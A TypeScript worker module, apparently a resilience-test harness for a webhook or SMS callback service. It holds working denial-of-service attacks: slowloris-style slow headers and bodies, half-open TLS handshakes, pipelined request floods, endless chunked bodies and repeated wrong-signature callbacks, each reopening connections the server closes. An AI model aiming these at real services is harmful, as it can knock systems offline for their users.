import net from 'node:net'
import tls from 'node:tls'
import { parentPort, workerData } from 'node:worker_threads'

/**
 * Attacks a listener from a thread of its own, until it is told to end; says when it has opened as many connections as
 * it wants. One that the service closes is opened again at once: what an attacker has is persistence.
 */
export interface AttackOrder {
  readonly name: AttackName
  readonly url: string
  /** Path of a callback with the right key. */
  readonly path: string
}

interface Attack {
  readonly connections: number
  readonly bare?: true
  /** What a connection does once it is open. */
  run(socket: net.Socket, path: string): void
}

const WRONG = '/callback/corp-100fa4b2/00000000000000000000000000000000/sms'
const every = (ms: number, socket: net.Socket, act: () => void) => {
  const timer = setInterval(act, ms)
  socket.once('close', () => clearInterval(timer))
}
/** Writes as fast as the far end reads. */
const flood = (socket: net.Socket, bytes: string | Buffer) => {
  const write = () => {
    while (!socket.destroyed && socket.writable && socket.write(bytes));
  }
  socket.on('drain', write)
  write()
}
const request = (method: string, path: string, more = '', body = '') =>
  `${method} ${path} HTTP/1.1\r\nHost: x\r\n${more}\r\n${body}`

const ATTACKS = {
  'slow heads': {
    connections: 200,
    run(socket, path) {
      socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\n`)
      every(200, socket, () => socket.write('X-a: b\r\n'))
    },
  },
  'slow bodies': {
    connections: 200,
    run(socket, path) {
      socket.write(request('POST', path, 'Content-Length: 60000\r\n'))
      every(200, socket, () => socket.write(' '))
    },
  },
  'idle sockets': { connections: 500, run: () => {} },
  'half-open handshakes': {
    connections: 500,
    bare: true,
    // A record that announces a ClientHello of 512 octets, of which few come.
    run: socket => void socket.write(Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])),
  },
  'pipelined garbage': {
    connections: 30,
    run: socket => flood(socket, 'GARBAGE \0\r\n\r\n'.repeat(500)),
  },
  'pipelined requests': {
    connections: 4,
    run: socket => flood(socket, request('GET', '/').repeat(200)),
  },
  'wrong keys': {
    connections: 32,
    run(socket) {
      const bytes = request('GET', `${WRONG}?timestamp=1&signature=${'0'.repeat(40)}`)
      socket.on('data', () => socket.write(bytes))
      socket.write(bytes)
    },
  },
  'wrong keys by POST': {
    connections: 32,
    run(socket) {
      const bytes = request('POST', WRONG, 'Content-Length: 20\r\n', '{"to":"13800138000"}')
      socket.on('data', () => socket.write(bytes))
      socket.write(bytes)
    },
  },
  'endless bodies': {
    connections: 20,
    run(socket, path) {
      socket.write(request('POST', path, 'Transfer-Encoding: chunked\r\n'))
      flood(socket, `ffff\r\n${'x'.repeat(0xffff)}\r\n`)
    },
  },
  'new connections': {
    connections: 16,
    run: socket => {
      socket.write(request('GET', WRONG, 'Connection: close\r\n'))
      socket.resume()
    },
  },
} satisfies Readonly<Record<string, Attack>>
export type AttackName = keyof typeof ATTACKS

function attack({ name, url, path }: AttackOrder): () => void {
  const { hostname, port, protocol } = new URL(url)
  const { connections, bare, run }: Attack = ATTACKS[name]
  const sockets = new Set<net.Socket>()
  let [ending, opened] = [false, 0]

  function open(): void {
    if (ending) return
    const to = { host: hostname, port: Number(port) }
    const secure = protocol === 'https:' && bare !== true
    const socket = secure ? tls.connect({ ...to, rejectUnauthorized: false }) : net.connect(to)
    sockets.add(socket)
    socket.on('error', () => {})
    socket.once(secure ? 'secureConnect' : 'connect', () => {
      if ((opened += 1) === connections) parentPort?.postMessage('open', [])
      run(socket, path)
    })
    socket.once('close', () => {
      sockets.delete(socket)
      setImmediate(open)
    })
    if (socket.listenerCount('data') === 0) socket.resume()
  }

  for (let n = 0; n < connections; n += 1) open()
  return () => {
    ending = true
    for (const socket of sockets) socket.destroy()
  }
}

if (parentPort !== null) {
  const end = attack(workerData as AttackOrder)
  parentPort.once('message', () => {
    end()
    process.exit(0)
  })
}
